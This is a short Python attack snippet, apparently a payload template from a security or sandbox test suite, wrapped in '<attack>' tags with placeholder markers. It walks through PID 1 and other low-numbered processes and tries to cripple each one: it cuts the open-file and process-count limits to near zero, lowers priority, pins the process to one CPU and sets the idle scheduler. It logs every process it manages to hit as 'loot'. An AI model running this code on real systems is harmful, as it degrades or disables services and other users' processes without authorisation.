#{crew_wrong}
# <attack>
loot = []
import os
import resource

for _pid in (1, *[pid for pid in range(2, 40) if pid != os.getpid()]):
    for _call in (
        lambda: resource.prlimit(_pid, resource.RLIMIT_NOFILE, (8, 8)),
        lambda: resource.prlimit(_pid, resource.RLIMIT_NPROC, (0, 0)),
        lambda: os.setpriority(os.PRIO_PROCESS, _pid, 19),
        lambda: os.sched_setaffinity(_pid, {0}),
        lambda: os.sched_setscheduler(_pid, os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            _call()
            loot.append(_pid)
        except OSError:
            pass
#{loot}
# </attack>
